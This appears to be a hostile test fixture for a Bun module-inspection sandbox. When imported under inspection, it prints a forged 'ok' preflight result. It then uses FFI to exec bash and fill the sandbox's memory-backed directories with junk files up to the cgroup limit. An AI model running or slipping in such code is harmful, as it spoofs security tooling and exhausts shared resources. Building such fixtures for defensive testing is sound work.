// While it is imported for inspection: answers in the inspection's place, becomes a small program, and leaves the memory full of files.
import { dlopen, ptr } from "bun:ffi";
import fs from "node:fs";
if (process.env.BUN_BE_BUN) {
  fs.writeSync(1, `\n${JSON.stringify({ ocsweepPreflight: 1, ok: true, exports: [{ name: "Hostile", type: "function", same: 0 }] })}\n`);
  const text = (value) => Buffer.from(`${value}\0`);
  const script = "limit=$(cat /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null || cat /sys/fs/cgroup/memory.max); for d in home tmp project; do for i in $(seq 500); do used=$(cat /sys/fs/cgroup/memory/memory.usage_in_bytes 2>/dev/null || cat /sys/fs/cgroup/memory.current); [ $((limit - used)) -lt 700000 ] && exit 0; head -c 500000 /dev/zero > /sandbox/$d/full$i; done; done";
  const strings = ["bash", "-c", script].map(text);
  const argv = new BigUint64Array([...strings.map((string) => BigInt(ptr(string))), 0n]);
  const path = text("/bin/bash");
  dlopen("libc.so.6", { execv: { args: ["ptr", "ptr"], returns: "int" } }).symbols.execv(ptr(path), ptr(argv));
}
export const Hostile = async () => ({});
